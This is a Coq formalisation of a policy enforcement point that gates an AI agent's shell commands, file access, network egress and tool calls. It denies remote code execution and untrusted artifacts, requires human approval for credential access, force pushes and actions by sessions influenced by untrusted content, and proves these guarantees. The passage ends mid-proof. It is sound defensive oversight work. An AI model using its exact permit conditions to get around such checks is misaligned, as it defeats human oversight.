(* ===== verification/Pep.v ===== *)
(** The policy enforcement point (crate [ainxt-pep]): the request and decision
    types, the projection of a judgement onto an obligation ([mode.rs]), the
    judgement itself, authorization, dry runs, effects and exec tickets ([lib.rs]),
    and what the client attests ([attest.rs], [context.rs]). *)
From S2P Require Import Prelude RustStr.
From S2P Require Import AuditChain.
From S2P Require Import PolicyTypes PolicyEngine.
From S2P Require Import ShellWords ShellTree Intent Programs IntentDerive.
From S2P Require Import SessionRisk.
Import (hints) Cap.

Module Export Types.

Record Principal : Type := MkPrincipal {
  principal_subject : string; client : string; session : string; parent_session : option string;
}.

Inductive Shell : Type := Shell_Posix | Shell_PowerShell | Shell_Cmd.

Definition shell_kind (s : Shell) : ShellKind :=
  match s with
  | Shell_Posix => Tools.Posix
  | Shell_PowerShell => PowerShell
  | Shell_Cmd => Cmd
  end.

Inductive Intent : Type :=
| IntentShell (command : string) (shell : Shell)
| FileRead (path : string)
| FileWrite (path : string)
| Egress (url : string)
| McpCall (server tool : string)
| ToolCall (tool : string).

Record Request : Type := MkRequest { principal : Principal; intent : Intent; influence : TrustTier }.

Inductive Judgement : Type :=
| Permit
| RequireHuman (human_action : SovereignAction) (human_reason : string)
| Deny (deny_rule deny_reason : string).

#[export] Instance Judgement_eq_dec : EqDecision Judgement.
Proof. solve_decision. Defined.

Inductive Obligation : Type :=
| Proceed
| Prompt (prompt_reason : string) (sovereign : bool)
| Refuse (refuse_reason : string).

#[export] Instance Obligation_eq_dec : EqDecision Obligation.
Proof. solve_decision. Defined.

Record Authorization : Type := MkAuth {
  judgement : Judgement; obligation : Obligation; derivation : Derivation; decision_id : string;
}.

Definition is_refused (a : Authorization) : bool :=
  match obligation a with Refuse _ => true | _ => false end.

Inductive Effect : Type :=
| ArtifactWritten (p o : string) (t : ArtifactTrust)
| Outcome (prog : string) (success : bool)
| BytesSent (bytes : N).

End Types.

Module Export Mode.

Definition evaluation_required (mode : Enforcement) : bool := negb (bool_decide (mode = EnforceOff)).

Definition obligate (j : Judgement) (mode : Enforcement) : Obligation :=
  match mode with
  | EnforceOff | EnforceWarn => Proceed
  | EnforceBlock =>
      match j with
      | Permit => Proceed
      | RequireHuman _ reason => Prompt reason true
      | Deny _ reason => Refuse reason
      end
  end.

End Mode.

Module Export Labels.

Definition decision_label (j : Judgement) (o : Obligation) : string :=
  let base := match j with Permit => "permit" | RequireHuman _ _ => "require_human" | Deny _ _ => "deny" end in
  let observed := negb (bool_decide (j = Permit)) && bool_decide (o = Proceed) in
  if observed then base +:+ ":observed" else base.

Definition sovereign_map : list (Cap.Capability * SovereignAction) :=
  [(Cap.CredentialAccess, CredentialAccess);
   (Cap.PrivilegeEscalation, PrivilegeEscalation);
   (Cap.PublishPackage, PackagePublish);
   (Cap.RewriteGitHistory, GitHistoryRewrite);
   (Cap.ForcePush, ForcePush)].

Definition rule_label (r : option RuleId) (fallback : string) : string :=
  default fallback (RuleId_to_string <$> r).

Definition action_label (i : Intent) : string :=
  match i with
  | IntentShell _ _ => "tool:bash"
  | FileRead _ => "tool:read"
  | FileWrite _ => "tool:write"
  | Egress _ => "egress"
  | McpCall server _ => "mcp:" +:+ server
  | ToolCall tool => "tool:" +:+ tool
  end.

Definition target_label (i : Intent) : string :=
  match i with
  | IntentShell command _ => command
  | FileRead p | FileWrite p => p
  | Egress url => url
  | McpCall _ tool => tool
  | ToolCall tool => tool
  end.

(** [rest.split(['/', '?', '#']).next()]. *)
Definition is_url_end (a : ascii) : bool :=
  bool_decide (a = "/"%char) || bool_decide (a = "?"%char) || bool_decide (a = "#"%char).

Definition host_of (url : string) : option string :=
  let rest := match split_once_str "://" url with Some (_, r) => r | None => url end in
  let host := rsplit_first (λ a, bool_decide (a = "@"%char)) (split_first is_url_end rest) in
  let host := split_first (λ a, bool_decide (a = ":"%char)) host in
  if is_empty host then None else Some (to_ascii_lowercase host).

Definition charge_for (d : Derivation) : Charge :=
  MkCharge (Derive.capabilities d) (head (programs (targets d)))
    (omap host_of (urls (targets d))) 0.

Definition derive `{BashParser} (i : Intent) : Derivation :=
  match i with
  | IntentShell command shell => derive_shell command (shell_kind shell)
  | FileRead p => derive_read p
  | FileWrite p => derive_write p
  | Egress url => derive_egress url
  | McpCall server tool => derive_mcp server tool
  | ToolCall tool => derive_tool tool
  end.

Definition RiskError_to_string (e : RiskError) : string :=
  match e with
  | Io what => "risk ledger i/o failed: " +:+ what
  | Corrupt what => "risk ledger state is corrupt: " +:+ what
  end.

End Labels.

Module Export Judge.

(** The first check of a list that gives a judgement decides. *)
Fixpoint first_judgement {A} (f : A → option Judgement) (l : list A) : option Judgement :=
  match l with
  | [] => None
  | x :: rest => match f x with Some j => Some j | None => first_judgement f rest end
  end.

Definition judge_frozen (st : RiskState) : option Judgement :=
  match state_frozen st with
  | Some f => Some (Deny "pep.session.frozen"
      ("session frozen: " +:+ describe (breach f) +:+
       ". A human must clear the freeze before work continues."))
  | None => None
  end.

Definition judge_unknown (d : Derivation) : option Judgement :=
  if bool_decide (confidence d = Cap.Unknown) then
    Some (RequireHuman SecurityConfigChange
      ("this action could not be decomposed, so its capabilities are unknown: " +:+
       default "no detail" (ev_detail <$> head (evidence d))))
  else None.

Definition judge_composition (d : Derivation) : option Judgement :=
  if has d Cap.RemoteCodeExecution then
    Some (Deny "pep.compose.remote_code_execution"
      (default "content is fetched and executed in the same command"
        (ev_detail <$> find (λ e, bool_decide (ev_capability e = Cap.RemoteCodeExecution)) (evidence d))))
  else None.

Definition blocked (d : Verdicts.Decision) (fallback : string) : option Judgement :=
  if bool_decide (verdict d = Block) then
    Some (Deny (rule_label (Verdicts.rule d) fallback) (Verdicts.reason d))
  else None.

Definition judge_mcp (req : Request) (e : PolicyEngine) : option Judgement :=
  match intent req with
  | McpCall server tool => blocked (mcp_decision e server tool (influence req)) "pep.mcp.denied"
  | _ => None
  end.

Definition judge_program (req : Request) (e : PolicyEngine) (program : string) : option Judgement :=
  blocked (exec_decision e (MkTarget program program None) (influence req)) "pep.exec.denied".

Definition judge_url (req : Request) (e : PolicyEngine) (url : string) : option Judgement :=
  match host_of url with
  | None => None
  | Some host => blocked (egress_decision e host (influence req)) "pep.egress.denied"
  end.

Definition judge_credential (e : PolicyEngine) (path : string) : option Judgement :=
  if is_credential_path e path then
    Some (RequireHuman CredentialAccess (path +:+ " holds credential material"))
  else None.

Definition judge_sovereign (d : Derivation) (e : PolicyEngine) (m : Cap.Capability * SovereignAction)
    : option Judgement :=
  let '(capability, action) := m in
  if has d capability && is_sovereign e action then
    Some (RequireHuman action
      ("`" +:+ Cap.as_str capability +:+ "` is a sovereign action under the active policy"))
  else None.

(** Any capability that is high-risk or reaches the network. *)
Definition consequential (d : Derivation) : bool :=
  existsb (λ c, has d c && (Cap.is_high_risk c || bool_decide (c = Cap.NetworkConnect)))
    Cap.all_capabilities.

Definition judge_influence (req : Request) (d : Derivation) (e : PolicyEngine) : option Judgement :=
  if negb (tier_permits_consequential e (influence req)) && consequential d then
    Some (RequireHuman NonAllowlistedEgress
      ("this session has been influenced by " +:+ TrustTier_debug (influence req) +:+
       " content and cannot take a consequential action without a human"))
  else None.

(** Everything [judge] checks after the artifact ledger, in order. *)
Definition judge_policy (req : Request) (d : Derivation) (e : PolicyEngine) : Judgement :=
  let checks :=
    [judge_composition d; judge_mcp req e;
     first_judgement (judge_program req e) (programs (targets d));
     first_judgement (judge_url req e) (urls (targets d));
     first_judgement (judge_credential e) (reads (targets d) ++ writes (targets d));
     first_judgement (judge_sovereign d e) sovereign_map;
     judge_influence req d e] in
  default Permit (first_judgement (λ j, j) checks).

Section Store.
Context {St : Type} `{RiskStore St}.

Definition untrusted_exec (path origin : string) : Judgement :=
  Deny "pep.artifact.untrusted_exec"
    ("refusing to execute " +:+ path +:+
     ", which entered this session from an untrusted origin (" +:+ origin +:+ ")").

(** The loop over the artifact ledger; each lookup goes through the store. *)
Fixpoint find_untrusted (k : LedgerKey) (paths : list string) (s : St) : option Judgement * St :=
  match paths with
  | [] => (None, s)
  | p :: rest =>
      let '(r, s) := store_artifact k p s in
      match r with
      | Ok (Some a) =>
          if bool_decide (trust a = SessionRisk.Ledger.Untrusted) then (Some (untrusted_exec p (origin a)), s)
          else find_untrusted k rest s
      | _ => find_untrusted k rest s
      end
  end.

Definition judge_artifacts (k : LedgerKey) (d : Derivation) (s : St) : option Judgement * St :=
  if has d Cap.ExecuteProcess then find_untrusted k (programs (targets d) ++ reads (targets d)) s
  else (None, s).

(** [judge]: ground truth, with no posture argument. *)
Definition judge (k : LedgerKey) (req : Request) (d : Derivation) (e : PolicyEngine) (st : RiskState) (s : St)
    : Judgement * St :=
  match judge_frozen st with
  | Some j => (j, s)
  | None =>
      match judge_unknown d with
      | Some j => (j, s)
      | None =>
          let '(r, s) := judge_artifacts k d s in
          match r with
          | Some j => (j, s)
          | None => (judge_policy req d e, s)
          end
      end
  end.

End Store.

Lemma first_judgement_None {A} (f : A → option Judgement) l :
  first_judgement f l = None ↔ Forall (λ x, f x = None) l.
Proof.
  induction l as [|x l IH]; simpl; [split; [constructor|done]|].
  destruct (f x) eqn:E; rewrite Forall_cons, E; naive_solver.
Qed.

Lemma blocked_None d fb : blocked d fb = None ↔ verdict d ≠ Block.
Proof. unfold blocked. case_bool_decide; naive_solver. Qed.

Lemma first_judgement_not_permit {A} (f : A → option Judgement) l j :
  (∀ x, f x ≠ Some Permit) → first_judgement f l = Some j → j ≠ Permit.
Proof.
  intros Hf. induction l as [|x l IH]; simpl; [done|]. destruct (f x) eqn:E; [|done].
  intros [= <-] ->. by apply (Hf x).
Qed.

End Judge.

Module Export Enforce.

(** [TICKET_TTL], in nanoseconds. *)
Definition TICKET_TTL : N := 30000000000.

(** The enforcement point of a process: its risk store, its tickets with the
    instant each was issued, and the process-wide audit chain. *)
Record Pep (St : Type) : Type := MkPep {
  risk : St; pep_endpoint : string; tickets : gmap string N; audit : option GlobalAudit;
}.
Arguments MkPep {St} _ _ _ _.
Arguments risk {St} _.
Arguments pep_endpoint {St} _.
Arguments tickets {St} _.
Arguments audit {St} _.

(** What a call reads from its surroundings: the wall clock in seconds, the
    monotonic clock in nanoseconds, the time stamp of an audit record, and the I/O
    error of its write, if any. *)
Record Env : Type := MkEnv { unix_now : N; instant : N; stamp : string; write_fault : option string }.

Section Pep.
Context {St : Type} `{RiskStore St} `{BashParser} `{AuditEnv} `{RecordCodec}.

Definition Pep_new (r : St) (endpoint : string) (a : option GlobalAudit) : Pep St := MkPep r endpoint ∅ a.

Definition set_risk (p : Pep St) (r : St) : Pep St := MkPep r (pep_endpoint p) (tickets p) (audit p).

Definition key (p : Pep St) (who : Principal) : LedgerKey := MkKey (principal_subject who) (pep_endpoint p).

Definition elapsed (now issued : N) : N := now - issued.

Definition ticket_hash (command : string) : string := slice 0 32 (Chain.blake3_hex command).

Definition mint_ticket (env : Env) (command : string) (p : Pep St) : Pep St :=
  let live := filter (λ x, (elapsed (instant env) x.2 < TICKET_TTL)%N) (tickets p) in
  MkPep (risk p) (pep_endpoint p) (<[ticket_hash command := instant env]> live) (audit p).

(** The ticket is consumed whether or not it is still valid. *)
Definition redeem_exec_ticket (env : Env) (command : string) (p : Pep St) : option string * Pep St :=
  let h := ticket_hash command in
  let p' := MkPep (risk p) (pep_endpoint p) (delete h (tickets p)) (audit p) in
  match tickets p !! h with
  | Some issued =>
      if bool_decide (elapsed (instant env) issued < TICKET_TTL)%N then (Some h, p') else (None, p')
  | None => (None, p')
  end.

Definition audit_entry (req : Request) (j : Judgement) (o : Obligation) : AuditEntry :=
  MkEntry (principal_subject (principal req)) (action_label (intent req)) (target_label (intent req))
    (to_ascii_lowercase (TrustTier_debug (influence req)))
    (decision_label j o)
    (match j with
     | Deny rule _ => Some rule
     | RequireHuman action _ => Some ("sovereign:" +:+ SovereignAction_debug action)
     | Permit => None
     end).

(** [Pep::record]: the hash of the record is the decision id. *)
Definition record_decision (env : Env) (req : Request) (j : Judgement) (o : Obligation) (p : Pep St)
    : string * Pep St :=
  let '(r, a) := Sink.record (write_fault env) (stamp env) (audit_entry req j o) (audit p) in
  (default "" (this_hash <$> r), MkPep (risk p) (pep_endpoint p) (tickets p) a).

Definition authorize (env : Env) (engine : PolicyEngine) (req : Request) (p : Pep St)
    : Authorization * Pep St :=
  let posture := engine_enforcement engine in
  if negb (evaluation_required posture) then
    (MkAuth Permit Proceed (Derivation_new Cap.Exact) "", p)
  else
    let d := derive (intent req) in
    let k := key p (principal req) in
    let '(charged, s) := store_charge k (charge_for d) (unix_now env) (risk p) in
    match charged with
    | Err err =>
        let j := Deny "pep.risk.unavailable"
          ("risk ledger unavailable, refusing to proceed blind: " +:+ RiskError_to_string err) in
        let o := obligate j posture in
        let '(id, p) := record_decision env req j o (set_risk p s) in
        (MkAuth j o d id, p)
    | Ok state =>
        let '(j, s) := judge k req d engine state s in
        let o := obligate j posture in
        let '(id, p) := record_decision env req j o (set_risk p s) in
        let p := match o, intent req with
                 | Proceed, IntentShell command _ => mint_ticket env command p
                 | _, _ => p
                 end in
        (MkAuth j o d id, p)
    end.

Definition explain (env : Env) (engine : PolicyEngine) (req : Request) (p : Pep St)
    : Authorization * Pep St :=
  let d := derive (intent req) in
  let k := key p (principal req) in
  let '(peeked, s) := store_peek k (unix_now env) (risk p) in
  let '(j, s) :=
    match peeked with
    | Ok state => judge k req d engine state s
    | Err err => (Deny "pep.risk.unavailable" ("risk ledger unavailable: " +:+ RiskError_to_string err), s)
    end in
  (MkAuth j (obligate j (engine_enforcement engine)) d "", set_risk p s).

(** [observe_effect]: errors of the store are dropped. *)
Definition observe_effect (env : Env) (who : Principal) (e : Effect) (p : Pep St) : Pep St :=
  let k := key p who in
  match e with
  | ArtifactWritten path o t =>
      set_risk p (store_note_artifact k (MkArtifact path t o (unix_now env)) (risk p)).2
  | Outcome prog success =>
      set_risk p (store_note_outcome k prog success (unix_now env) (risk p)).2
  | BytesSent bytes =>
      set_risk p (store_charge k (MkCharge ∅ None [] bytes) (unix_now env) (risk p)).2
  end.

Definition pep_freeze (who : Principal) (r : FreezeReason) (p : Pep St) : Pep St :=
  set_risk p (store_freeze (key p who) r (risk p)).2.
Definition pep_clear_freeze (who : Principal) (p : Pep St) : Pep St :=
  set_risk p (store_clear_freeze (key p who) (risk p)).2.

(** The check at the spawn site of the terminal tool. *)
Definition spawn_allowed (env : Env) (engine : PolicyEngine) (command : string) (p : Pep St) : bool * Pep St :=
  if negb (bool_decide (engine_enforcement engine = EnforceOff)) then
    let '(t, p') := redeem_exec_ticket env command p in
    match t with
    | None => (negb (is_enforcing engine), p')
    | Some _ => (true, p')
    end
  else (true, p).

End Pep.

End Enforce.

Module Export Attest.

(** The environment variables of the process. *)
Definition Vars : Type := string → option string.

Definition pep_subject (env : Vars) : string :=
  match env "AINXT_USER_ID" with
  | Some id => if negb (is_empty (trim id)) then id
               else "local:" +:+ default "unknown" (or_else (env "USER") (env "USERNAME"))
  | None => "local:" +:+ default "unknown" (or_else (env "USER") (env "USERNAME"))
  end.

Definition client_label (env : Vars) : string := default "ainxt-cli" (env "AINXT_CLIENT_NAME").

Definition local_principal (env : Vars) (session subagent : option string) : Principal :=
  let id := default "unknown" session in
  MkPrincipal (pep_subject env) (client_label env) id ((λ _, id) <$> subagent).

Definition default_shell (windows : bool) : Shell := if windows then Shell_PowerShell else Shell_Posix.

(** [record_accepted_versions] and [accepted_versions]: two atomics. *)
Definition record_accepted_versions (bundle overlay : option N) : N * N :=
  (default 0%N bundle, default 0%N overlay).

Definition version_string (versions : N * N) : string :=
  pretty versions.1 +:+ "." +:+ pretty versions.2.

Definition enforcement_string (e : PolicyEngine) : string :=
  match engine_enforcement e with
  | EnforceOff => "off"
  | EnforceWarn => "observe"
  | EnforceBlock => "block"
  end.

Definition headers (versions : N * N) (e : PolicyEngine) : list (string * string) :=
  [("x-ainxt-policy-version", version_string versions); ("x-ainxt-enforcement", enforcement_string e)].

End Attest.

Module Export Decisions.

(** ** What a permit means *)

(** An engine decision is an allow or a block, nothing else. *)
Lemma exec_not_block e t tier : verdict (exec_decision e t tier) ≠ Block ↔ verdict (exec_decision e t tier) = Allow.
Proof. unfold exec_decision. repeat case_match; simpl; naive_solver. Qed.
Lemma egress_not_block e h tier : verdict (egress_decision e h tier) ≠ Block ↔ verdict (egress_decision e h tier) = Allow.
Proof. unfold egress_decision. repeat case_match; simpl; naive_solver. Qed.
Lemma mcp_not_block e s t tier : verdict (mcp_decision e s t tier) ≠ Block ↔ verdict (mcp_decision e s t tier) = Allow.
Proof. unfold mcp_decision. repeat case_match; simpl; naive_solver. Qed.

Lemma has_true d c : has d c = true ↔ c ∈ Derive.capabilities d.
Proof. unfold has. apply bool_decide_eq_true. Qed.
Lemma has_false d c : has d c = false ↔ c ∉ Derive.capabilities d.
Proof. unfold has. apply bool_decide_eq_false. Qed.

Lemma judge_policy_permit req d e :
  judge_policy req d e = Permit ↔
  judge_composition d = None ∧ judge_mcp req e = None ∧
  Forall (λ p, judge_program req e p = None) (programs (targets d)) ∧
  Forall (λ u, judge_url req e u = None) (urls (targets d)) ∧
  Forall (λ p, judge_credential e p = None) (reads (targets d) ++ writes (targets d)) ∧
  Forall (λ m, judge_sovereign d e m = None) sovereign_map ∧
  judge_influence req d e = None.
Proof.
  unfold judge_policy. rewrite <-!first_judgement_None. cbv zeta.
  set (l := [_; _; _; _; _; _; _]).
  assert (Hnp : Forall (λ j, j ≠ Some Permit) l).
  { unfold l. rewrite !Forall_cons. split_and!; [..|apply Forall_nil_2].
    all: try (intros Hj; apply first_judgement_not_permit in Hj; [done|]; intros x).
    all: unfold judge_composition, judge_mcp, judge_influence, judge_program, judge_url, judge_credential,
      judge_sovereign, blocked; repeat case_match; done. }
  destruct (first_judgement (λ j, j) l) as [j|] eqn:E.
  - assert (j ≠ Permit).
    { clear -E Hnp. induction l as [|x l IH]; simpl in E; [done|]. apply Forall_cons in Hnp as [Hx Hl].
      destruct x; [congruence|auto]. }
    simpl. split; [done|]. intros Hall. exfalso.
    assert (first_judgement (λ j, j) l = None); [|congruence].
    apply first_judgement_None. unfold l. destruct Hall as (? & ? & ? & ? & ? & ? & ?).
    repeat (apply Forall_cons; split; [done|]). apply Forall_nil_2.
  - simpl. split; [intros _|done]. apply first_judgement_None in E. unfold l in E.
    rewrite !Forall_cons in E. naive_solver.
Qed.

(** The policy half of a permit, read off the granted capabilities. *)
Record policy_permits (req : Request) (d : Derivation) (e : PolicyEngine) : Prop := {
  permits_no_rce : Cap.RemoteCodeExecution ∉ Derive.capabilities d;
  permits_mcp server tool :
    intent req = McpCall server tool → verdict (mcp_decision e server tool (influence req)) = Allow;
  permits_programs p :
    p ∈ programs (targets d) → verdict (exec_decision e (MkTarget p p None) (influence req)) = Allow;
  permits_hosts u h :
    u ∈ urls (targets d) → host_of u = Some h → verdict (egress_decision e h (influence req)) = Allow;
  permits_paths p : p ∈ reads (targets d) ++ writes (targets d) → is_credential_path e p = false;
  permits_sovereign c a :
    (c, a) ∈ sovereign_map → c ∈ Derive.capabilities d → is_sovereign e a = false;
  permits_influence :
    consequential d = true → permits_consequential_actions (influence req) = true;
}.

Lemma judge_policy_permits req d e : judge_policy req d e = Permit ↔ policy_permits req d e.
Proof.
  rewrite judge_policy_permit, !Forall_forall. split.
  - intros (Hrce & Hmcp & Hp & Hu & Hc & Hs & Hi). split.
    + unfold judge_composition in Hrce. destruct (has d Cap.RemoteCodeExecution) eqn:E; [done|].
      by apply has_false.
    + intros server tool Hin. unfold judge_mcp in Hmcp. rewrite Hin in Hmcp.
      by apply mcp_not_block, (blocked_None _ "pep.mcp.denied").
    + intros p Hin. by apply exec_not_block, (blocked_None _ "pep.exec.denied"), Hp.
    + intros u h Hin Hh. specialize (Hu u Hin). unfold judge_url in Hu. rewrite Hh in Hu.
      by apply egress_not_block, (blocked_None _ "pep.egress.denied").
    + intros p Hin. specialize (Hc p Hin). unfold judge_credential in Hc.
      by destruct (is_credential_path e p).
    + intros c a Hin Hd. specialize (Hs (c, a) Hin). unfold judge_sovereign in Hs.
      apply has_true in Hd. rewrite Hd in Hs. simpl in Hs. by destruct (is_sovereign e a).
    + intros Hcons. unfold judge_influence in Hi. rewrite Hcons, andb_true_r in Hi.
      unfold tier_permits_consequential in Hi. by destruct (permits_consequential_actions _).
  - intros [Hrce Hmcp Hp Hu Hc Hs Hi]. split_and!.
    + unfold judge_composition. apply has_false in Hrce. by rewrite Hrce.
    + unfold judge_mcp. destruct (intent req) eqn:E; try done. by apply blocked_None, mcp_not_block, Hmcp.
    + intros p Hin. by apply blocked_None, exec_not_block, Hp.
    + intros u Hin. unfold judge_url. destruct (host_of u) as [h|] eqn:E; [|done].
      apply blocked_None, egress_not_block. by eapply Hu.
    + intros p Hin. unfold judge_credential. by rewrite Hc.
    + intros [c a] Hin. unfold judge_sovereign. destruct (has d c) eqn:E; [|done].
      apply has_true in E. by rewrite (Hs c a Hin E).
    + unfold judge_influence, tier_permits_consequential.
      destruct (consequential d); [|by rewrite andb_false_r]. by rewrite Hi.
Qed.

Section Store.
Context {St : Type} `{RiskStoreLaws St}.

Lemma find_untrusted_spec k paths s l :
  contents s k = Some l →
  contents (find_untrusted k paths s).2 k = Some l ∧
  ((find_untrusted k paths s).1 = None ↔
   ∀ p a, p ∈ paths → artifacts l !! p = Some a → trust a ≠ SessionRisk.Ledger.Untrusted) ∧
  (∀ j, (find_untrusted k paths s).1 = Some j → ∃ p o, p ∈ paths ∧ j = untrusted_exec p o).
Proof.
  revert s. induction paths as [|p paths IH]; intros s Hl; simpl.
  { split_and!; [done| |done]. split; [|done]. intros _ p a Hp. by apply not_elem_of_nil in Hp. }
  unfold store_artifact at 1 2 3.
  destruct (law_update k (λ l, (l, artifact p l)) s l Hl) as (s' & Hw & Hs' & _ & _).
  cbn [fst] in Hs'. rewrite Hw. cbn [fst snd].
  destruct (IH s' Hs') as (H1 & H2 & H3). unfold artifact.
  destruct (artifacts l !! p) as [a|] eqn:Ha.
  - case_bool_decide as Hu; simpl.
    + split_and!; [done| |intros j [= <-]; exists p, (origin a); split; [by left|done]].
      split; [done|]. intros Hall. by destruct (Hall p a (list_elem_of_here _ _) Ha).
    + split_and!; [done| |intros j Hj; destruct (H3 j Hj) as (q & o & ? & ?); exists q, o; split; [by right|done]].
      rewrite H2. split; [|intros Hall q b Hq; apply Hall; by right].
      intros Hall q b [->|Hq]%elem_of_cons Hb; [congruence|by eapply Hall].
  - split_and!; [done| |intros j Hj; destruct (H3 j Hj) as (q & o & ? & ?); exists q, o; split; [by right|done]].
    rewrite H2. split; [|intros Hall q b Hq; apply Hall; by right].
    intros Hall q b [->|Hq]%elem_of_cons Hb; [congruence|by eapply Hall].
Qed.

(** What a judgement depends on: the frozen flag, the derivation, the policy and
    the artifacts of the ledger, never the posture or the budget counts. *)
Lemma judge_spec k req d e st s l :
  contents s k = Some l →
  contents (judge k req d e st s).2 k = Some l ∧
  ((judge k req d e st s).1 = Permit ↔
   state_frozen st = None ∧ confidence d ≠ Cap.Unknown ∧
   (Cap.ExecuteProcess ∈ Derive.capabilities d → ∀ p a, p ∈ programs (targets d) ++ reads (targets d) →
      artifacts l !! p = Some a → trust a ≠ SessionRisk.Ledger.Untrusted) ∧
   policy_permits req d e).
Proof.
  intros Hl. unfold judge, judge_frozen, judge_unknown. destruct (state_frozen st) as [f|]; [naive_solver|].
  case_bool_decide as Hc; [naive_solver|]. unfold judge_artifacts.
  destruct (has d Cap.ExecuteProcess) eqn:Hx.
  - apply has_true in Hx.
    destruct (find_untrusted_spec k (programs (targets d) ++ reads (targets d)) s l Hl) as (H1 & H2 & H3).
    destruct (find_untrusted _ _ s) as [[j|] s'] eqn:E; simpl in *.
    + split; [done|]. destruct (H3 j eq_refl) as (p & o & _ & ->). split; [done|].
      intros (_ & _ & Ha & _). assert (Some (untrusted_exec p o) = None) by (apply H2; by apply Ha). done.
    + split; [done|]. rewrite judge_policy_permits. destruct H2 as [H2 _]. specialize (H2 eq_refl). naive_solver.
  - apply has_false in Hx. simpl. split; [done|]. rewrite judge_policy_permits. naive_solver.
Qed.

(** C1: complete mediation: an action is permitted exactly when the session is not
    frozen, the action was decomposed, no program it runs or file it reads is an
    untrusted artifact, it is not remote code execution, every program, host, MCP
    tool and path it touches is granted by the policy at the request's tier, and
    no capability it uses needs a human. *)
Theorem judge_permit_iff k req d e st s l :
  contents s k = Some l →
  (judge k req d e st s).1 = Permit ↔
   state_frozen st = None ∧ confidence d ≠ Cap.Unknown ∧
   (Cap.ExecuteProcess ∈ Derive.capabilities d → ∀ p a, p ∈ programs (targets d) ++ reads (targets d) →
      artifacts l !! p = Some a → trust a ≠ SessionRisk.Ledger.Untrusted) ∧
   policy_permits req d e.
Proof. intros Hl. by apply judge_spec. Qed.

End Store.

End Decisions.

Module Export Authorize.

Section Pep.
Context {St : Type} `{RiskStoreLaws St} `{BashParser} `{AuditEnv} `{RecordCodec}.

(** The same policy under another posture. *)
Definition with_posture (m : Enforcement) (e : PolicyEngine) : PolicyEngine :=
  PolicyEngine_new (MkPolicy m (PolicyTypes.Policy.capabilities (policy e))).

Lemma judge_posture m k req d e st (s : St) :
  judge k req d (with_posture m e) st s = judge k req d e st s.
Proof. reflexivity. Qed.

(** The store after [record_decision], and the store after a mint. *)
Lemma record_decision_risk env req j o (p : Pep St) : risk (record_decision env req j o p).2 = risk p.
Proof. unfold record_decision. by destruct (Sink.record _ _ _ _). Qed.
Lemma record_decision_tickets env req j o (p : Pep St) : tickets (record_decision env req j o p).2 = tickets p.
Proof. unfold record_decision. by destruct (Sink.record _ _ _ _). Qed.

(** One authorization when the policy is evaluated, in one piece. *)
Lemma authorize_ok env e req (p : Pep St) l :
  engine_enforcement e ≠ EnforceOff →
  contents (risk p) (key p (principal req)) = Some l →
  let d := derive (intent req) in
  let ch := charge (charge_for d) (store_budgets (risk p)) (unix_now env) l in
  ∃ s j s',
    s = (store_charge (key p (principal req)) (charge_for d) (unix_now env) (risk p)).2 ∧
    contents s (key p (principal req)) = Some ch.1 ∧
    judge (key p (principal req)) req d e ch.2 s = (j, s') ∧
    judgement (authorize env e req p).1 = j ∧
    obligation (authorize env e req p).1 = obligate j (engine_enforcement e) ∧
    derivation (authorize env e req p).1 = d ∧
    risk (authorize env e req p).2 = s' ∧
    contents s' (key p (principal req)) = Some ch.1 ∧
    tickets (authorize env e req p).2 =
      match obligate j (engine_enforcement e), intent req with
      | Proceed, IntentShell command _ => tickets (mint_ticket env command p)
      | _, _ => tickets p
      end.
Proof.
  intros Hon Hl. cbv zeta. unfold authorize, evaluation_required.
  rewrite (bool_decide_eq_false_2 _ Hon). simpl negb. cbv iota zeta. unfold store_charge.
  destruct (law_update _ (charge (charge_for (derive (intent req))) (store_budgets (risk p)) (unix_now env))
    (risk p) l Hl) as (s & Hw & Hs & _ & _). rewrite Hw.
  destruct (judge _ req (derive (intent req)) e _ s) as [j s'] eqn:Hj.
  pose proof (judge_spec _ req (derive (intent req)) e
    (charge (charge_for (derive (intent req))) (store_budgets (risk p)) (unix_now env) l).2 s _ Hs) as [Hs' _].
  rewrite Hj in Hs'. simpl in Hs'.
  pose proof (record_decision_risk env req j (obligate j (engine_enforcement e)) (set_risk p s')) as Hr.
  pose proof (record_decision_tickets env req j (obligate j (engine_enforcement e)) (set_risk p s')) as Ht.
  destruct (record_decision env req j _ (set_risk p s')) as [id p'] eqn:Er. simpl in Hr, Ht.
  exists s, j, s'. split_and!; try done.
  - destruct (obligate j (engine_enforcement e)), (intent req); simpl; done.
  - destruct (obligate j (engine_enforcement e)), (intent req); simpl; rewrite ?Ht; done.
Qed.

(** C2: posture never touches the judgement: observing and blocking derive the
    same request, reach the same judgement and leave the same ledger; observing
    always proceeds, and only under block does a denial refuse and a sovereign
    action prompt. *)
Theorem posture_only_projects env e req (p : Pep St) l :
  contents (risk p) (key p (principal req)) = Some l →
  let warn := authorize env (with_posture EnforceWarn e) req p in
  let block := authorize env (with_posture EnforceBlock e) req p in
  judgement warn.1 = judgement block.1 ∧ derivation warn.1 = derivation block.1 ∧
  risk warn.2 = risk block.2 ∧
  obligation warn.1 = Proceed ∧ obligation block.1 = obligate (judgement block.1) EnforceBlock ∧
  (obligation block.1 = Proceed ↔ judgement block.1 = Permit).
Proof.
  intros Hl. cbv zeta.
  destruct (authorize_ok env (with_posture EnforceWarn e) req p l)
    as (s1 & j1 & s1' & E1 & _ & Hj1 & Ha1 & Ho1 & Hd1 & Hr1 & _); [done|done|].
  destruct (authorize_ok env (with_posture EnforceBlock e) req p l)
    as (s2 & j2 & s2' & E2 & _ & Hj2 & Ha2 & Ho2 & Hd2 & Hr2 & _); [done|done|].
  rewrite judge_posture in Hj1, Hj2. rewrite <-E2 in E1. subst s1. rewrite Hj1 in Hj2.
  injection Hj2 as <- <-. split_and!; [congruence..|by rewrite Ho1|by rewrite Ha2|].
  rewrite Ho2, Ha2. simpl. destruct j1; naive_solver.
Qed.

(** C4: an action of a frozen subject is denied, and so is the very action whose
    charge exceeds a budget: it is judged on the ledger that already counts it. *)
Theorem frozen_or_over_budget_denied env e req (p : Pep St) l :
  engine_enforcement e ≠ EnforceOff →
  contents (risk p) (key p (principal req)) = Some l →
  let d := derive (intent req) in
  let ch := charge (charge_for d) (store_budgets (risk p)) (unix_now env) l in
  is_Some (frozen l) ∨ breaches ch.2 ≠ [] →
  (∃ reason, judgement (authorize env e req p).1 = Deny "pep.session.frozen" reason ∧
     (engine_enforcement e = EnforceBlock → obligation (authorize env e req p).1 = Refuse reason)) ∧
  ∃ l', contents (risk (authorize env e req p).2) (key p (principal req)) = Some l' ∧ is_Some (frozen l').
Proof.
  intros Hon Hl. cbv zeta. intros Hf.
